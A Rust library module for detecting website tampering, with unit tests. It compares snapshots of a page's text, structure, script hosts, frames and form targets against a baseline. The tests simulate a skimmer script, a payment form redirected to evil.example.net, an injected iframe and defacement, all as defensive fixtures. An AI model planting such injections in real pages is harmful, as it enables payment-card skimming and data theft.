//! Web tamper watch, pure: a page's [`Snapshot`] (normalized visible text of the watched part,
//! a hash of the DOM structure, external script hosts, frames, form targets) and what changed
//! against a baseline ([`compare`]). No I/O: the binary fetches pages and stores baselines.

use ego_tree::NodeId;
use scraper::{ElementRef, Html, Node, Selector};
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use std::collections::{BTreeSet, HashSet};
use url::Url;

/// What a watch looks at on a page.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct WatchSpec {
    /// CSS selector of the part whose text is watched (default: the whole `body`).
    pub selector: Option<String>,
    /// CSS selectors of parts to leave out (clocks, tokens, counters).
    pub ignore: Vec<String>,
    /// How many words of the watched text may change before it counts (default 0).
    pub text_threshold: usize,
}

/// A page as a watch sees it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Snapshot {
    /// The visible text of the watched part, whitespace collapsed, ignored parts left out.
    pub text: String,
    /// SHA-256 of the element structure (tag names and nesting, no text, no attributes).
    pub structure: String,
    /// Hosts of the external scripts (`<script src>` on another host than the page's).
    pub script_hosts: BTreeSet<String>,
    /// Every `<script src>`, resolved against the page.
    pub scripts: BTreeSet<String>,
    /// Every `<iframe src>`, resolved.
    pub frames: BTreeSet<String>,
    /// Every `<form action>`, resolved (the page itself when absent).
    pub form_targets: BTreeSet<String>,
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum TamperError {
    #[error("invalid CSS selector {selector:?}: {message}")]
    Selector { selector: String, message: String },
    #[error("the page's URL {0:?} is not absolute")]
    Url(String),
    #[error("the watched part {0:?} is not on the page")]
    Missing(String),
}

fn selector(s: &str) -> Result<Selector, TamperError> {
    Selector::parse(s).map_err(|e| TamperError::Selector {
        selector: s.to_string(),
        message: e.to_string(),
    })
}

/// Checks a spec's selectors (at config load, so a typo stops the start).
pub fn check(spec: &WatchSpec) -> Result<(), TamperError> {
    if let Some(s) = &spec.selector {
        selector(s)?;
    }
    for s in &spec.ignore {
        selector(s)?;
    }
    Ok(())
}

impl Snapshot {
    /// The snapshot of `html` served at `page_url`.
    pub fn of(html: &str, page_url: &str, spec: &WatchSpec) -> Result<Snapshot, TamperError> {
        let base = Url::parse(page_url).map_err(|_| TamperError::Url(page_url.to_string()))?;
        let doc = Html::parse_document(html);
        let ignore: Vec<Selector> = spec
            .ignore
            .iter()
            .map(|s| selector(s))
            .collect::<Result<_, _>>()?;
        let mut ignored: HashSet<NodeId> = HashSet::new();
        for sel in &ignore {
            for el in doc.select(sel) {
                ignored.insert(el.id());
            }
        }
        let root = match &spec.selector {
            Some(s) => doc
                .select(&selector(s)?)
                .next()
                .ok_or_else(|| TamperError::Missing(s.clone()))?,
            None => doc
                .select(&selector("body")?)
                .next()
                .unwrap_or_else(|| doc.root_element()),
        };
        let mut words: Vec<String> = Vec::new();
        visible_text(root, &ignored, &mut words);
        let mut shape = String::new();
        structure(doc.root_element(), &ignored, &mut shape);
        let resolve = |v: &str| base.join(v.trim()).ok();
        let mut scripts = BTreeSet::new();
        let mut script_hosts = BTreeSet::new();
        for el in doc.select(&selector("script[src]")?) {
            if let Some(u) = el.value().attr("src").and_then(resolve) {
                if let Some(h) = u.host_str() {
                    if Some(h) != base.host_str() {
                        script_hosts.insert(h.to_ascii_lowercase());
                    }
                }
                scripts.insert(u.to_string());
            }
        }
        let mut frames = BTreeSet::new();
        for el in doc.select(&selector("iframe[src], frame[src]")?) {
            if let Some(u) = el.value().attr("src").and_then(resolve) {
                frames.insert(u.to_string());
            }
        }
        let mut form_targets = BTreeSet::new();
        for el in doc.select(&selector("form")?) {
            let action = el.value().attr("action").unwrap_or("");
            let target = if action.trim().is_empty() {
                Some(base.clone())
            } else {
                resolve(action)
            };
            if let Some(u) = target {
                form_targets.insert(u.to_string());
            }
        }
        Ok(Snapshot {
            text: words.join(" "),
            structure: hex::encode(Sha256::digest(shape.as_bytes())),
            script_hosts,
            scripts,
            frames,
            form_targets,
        })
    }
}

fn is_hidden(name: &str) -> bool {
    matches!(
        name,
        "script" | "style" | "noscript" | "template" | "head" | "title" | "meta" | "link"
    )
}

fn visible_text(el: ElementRef<'_>, ignored: &HashSet<NodeId>, out: &mut Vec<String>) {
    if ignored.contains(&el.id()) || is_hidden(el.value().name()) {
        return;
    }
    for child in el.children() {
        match child.value() {
            Node::Text(t) => out.extend(t.split_whitespace().map(str::to_string)),
            Node::Element(_) => {
                if let Some(c) = ElementRef::wrap(child) {
                    visible_text(c, ignored, out);
                }
            }
            _ => {}
        }
    }
}

fn structure(el: ElementRef<'_>, ignored: &HashSet<NodeId>, out: &mut String) {
    if ignored.contains(&el.id()) {
        return;
    }
    out.push('<');
    out.push_str(el.value().name());
    out.push('>');
    for child in el.children() {
        if let Some(c) = ElementRef::wrap(child) {
            structure(c, ignored, out);
        }
    }
    out.push_str("</>");
}

/// One difference between a baseline and the page now.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum Change {
    /// Scripts from a host the baseline did not load from.
    NewScriptHost { hosts: Vec<String> },
    /// Script sources added or gone.
    Scripts {
        added: Vec<String>,
        removed: Vec<String>,
    },
    /// Frames added.
    NewFrame { frames: Vec<String> },
    /// Forms posting somewhere new.
    NewFormTarget { targets: Vec<String> },
    /// The watched text changed by more words than the threshold.
    Text {
        removed: Vec<String>,
        added: Vec<String>,
    },
    /// The element structure changed (shown only with another change: alone it is noise).
    Structure,
}

impl Change {
    /// One line for a ticket.
    pub fn describe(&self) -> String {
        let list = |v: &[String]| v.join(", ");
        match self {
            Change::NewScriptHost { hosts } => format!("new external script host: {}", list(hosts)),
            Change::Scripts { added, removed } => {
                format!("scripts added: {}; removed: {}", list(added), list(removed))
            }
            Change::NewFrame { frames } => format!("new frame: {}", list(frames)),
            Change::NewFormTarget { targets } => format!("form posts to: {}", list(targets)),
            Change::Text { removed, added } => format!(
                "text changed: −{} word(s) «{}», +{} word(s) «{}»",
                removed.len(),
                shorten(&removed.join(" ")),
                added.len(),
                shorten(&added.join(" "))
            ),
            Change::Structure => "the page's structure changed".to_string(),
        }
    }
}

fn shorten(s: &str) -> String {
    const MAX: usize = 120;
    if s.chars().count() <= MAX {
        s.to_string()
    } else {
        let cut: String = s.chars().take(MAX).collect();
        format!("{cut}…")
    }
}

fn added(now: &BTreeSet<String>, before: &BTreeSet<String>) -> Vec<String> {
    now.difference(before).cloned().collect()
}

/// What changed from `baseline` to `now` that counts as tampering: new script hosts, script
/// sources added or removed, new frames or form targets, the watched text beyond the
/// threshold. Empty: the page is as its baseline (for the watch).
pub fn compare(baseline: &Snapshot, now: &Snapshot, spec: &WatchSpec) -> Vec<Change> {
    let mut out = Vec::new();
    let hosts = added(&now.script_hosts, &baseline.script_hosts);
    if !hosts.is_empty() {
        out.push(Change::NewScriptHost { hosts });
    }
    let (a, r) = (
        added(&now.scripts, &baseline.scripts),
        added(&baseline.scripts, &now.scripts),
    );
    if !a.is_empty() || !r.is_empty() {
        out.push(Change::Scripts {
            added: a,
            removed: r,
        });
    }
    let frames = added(&now.frames, &baseline.frames);
    if !frames.is_empty() {
        out.push(Change::NewFrame { frames });
    }
    let targets = added(&now.form_targets, &baseline.form_targets);
    if !targets.is_empty() {
        out.push(Change::NewFormTarget { targets });
    }
    let (removed, added_words) = word_diff(&baseline.text, &now.text);
    if removed.len().max(added_words.len()) > spec.text_threshold {
        out.push(Change::Text {
            removed,
            added: added_words,
        });
    }
    if !out.is_empty() && baseline.structure != now.structure {
        out.push(Change::Structure);
    }
    out
}

/// Words removed and added between two texts (a multiset difference, in order of appearance).
fn word_diff(before: &str, now: &str) -> (Vec<String>, Vec<String>) {
    let count = |s: &str| {
        let mut m: std::collections::BTreeMap<String, usize> = Default::default();
        for w in s.split_whitespace() {
            *m.entry(w.to_string()).or_default() += 1;
        }
        m
    };
    let (b, n) = (count(before), count(now));
    let pick = |from: &str, other: &std::collections::BTreeMap<String, usize>| {
        let mut seen: std::collections::BTreeMap<&str, usize> = Default::default();
        let mut out = Vec::new();
        for w in from.split_whitespace() {
            let k = seen.entry(w).or_default();
            *k += 1;
            if *k > other.get(w).copied().unwrap_or(0) {
                out.push(w.to_string());
            }
        }
        out
    };
    (pick(before, &n), pick(now, &b))
}

#[cfg(test)]
mod tests {
    use super::*;

    const PAGE: &str = r#"<!doctype html><html><head><title>Shop</title>
<script src="/app.js"></script><script src="https://cdn.example.com/lib.js"></script></head>
<body><h1>Welcome to the shop</h1><p class="clock">12:00:01</p>
<main id="content"><p>Pay with card</p><form action="/pay"><input name="n"></form></main>
<style>p{color:red}</style></body></html>"#;

    fn spec() -> WatchSpec {
        WatchSpec {
            ignore: vec![".clock".into()],
            ..Default::default()
        }
    }

    fn snap(html: &str) -> Snapshot {
        Snapshot::of(html, "https://shop.example.com/", &spec()).expect("snapshot")
    }

    #[test]
    fn a_snapshot_sees_text_scripts_and_forms() {
        let s = snap(PAGE);
        assert_eq!(s.text, "Welcome to the shop Pay with card");
        assert_eq!(
            s.scripts,
            [
                "https://cdn.example.com/lib.js".to_string(),
                "https://shop.example.com/app.js".to_string()
            ]
            .into()
        );
        assert_eq!(s.script_hosts, ["cdn.example.com".to_string()].into());
        assert_eq!(
            s.form_targets,
            ["https://shop.example.com/pay".to_string()].into()
        );
        let watched = Snapshot::of(
            PAGE,
            "https://shop.example.com/",
            &WatchSpec {
                selector: Some("#content".into()),
                ..spec()
            },
        )
        .expect("snapshot");
        assert_eq!(watched.text, "Pay with card");
    }

    #[test]
    fn changes_that_count_and_changes_that_do_not() {
        let base = snap(PAGE);
        // (what, the page now, kinds of change)
        let table: Vec<(&str, String, Vec<&str>)> = vec![
            ("the same page", PAGE.to_string(), vec![]),
            (
                "only the ignored clock ticks",
                PAGE.replace("12:00:01", "12:00:02"),
                vec![],
            ),
            (
                "a skimmer script from a new host",
                PAGE.replace(
                    "https://cdn.example.com/lib.js",
                    "https://evil.example.net/lib.js",
                ),
                vec!["new_script_host", "scripts"],
            ),
            (
                "the form posts elsewhere",
                PAGE.replace("action=\"/pay\"", "action=\"https://evil.example.net/c\""),
                vec!["new_form_target"],
            ),
            (
                "an injected iframe",
                PAGE.replace(
                    "</main>",
                    "<iframe src=\"https://evil.example.net/x\"></iframe></main>",
                ),
                vec!["new_frame", "structure"],
            ),
            (
                "defaced text",
                PAGE.replace("Welcome to the shop", "Hacked by nobody"),
                vec!["text"],
            ),
        ];
        for (what, page, kinds) in table {
            let got: Vec<String> = compare(&base, &snap(&page), &spec())
                .iter()
                .map(|c| {
                    serde_json::to_value(c).expect("json")["kind"]
                        .as_str()
                        .unwrap_or("")
                        .to_string()
                })
                .collect();
            assert_eq!(got, kinds, "{what}");
        }
        let lenient = WatchSpec {
            text_threshold: 5,
            ..spec()
        };
        let edited = snap(&PAGE.replace("Welcome to the shop", "Welcome to our shop"));
        assert!(compare(&base, &edited, &lenient).is_empty());
    }

    #[test]
    fn bad_selectors_and_urls_are_errors_that_say_which() {
        let bad = WatchSpec {
            selector: Some("main[".into()),
            ..Default::default()
        };
        assert!(matches!(check(&bad), Err(TamperError::Selector { .. })));
        assert!(matches!(
            Snapshot::of(PAGE, "/relative", &WatchSpec::default()),
            Err(TamperError::Url(_))
        ));
        let missing = WatchSpec {
            selector: Some("#nowhere".into()),
            ..Default::default()
        };
        assert_eq!(
            Snapshot::of(PAGE, "https://a.example/", &missing),
            Err(TamperError::Missing("#nowhere".into()))
        );
    }
}
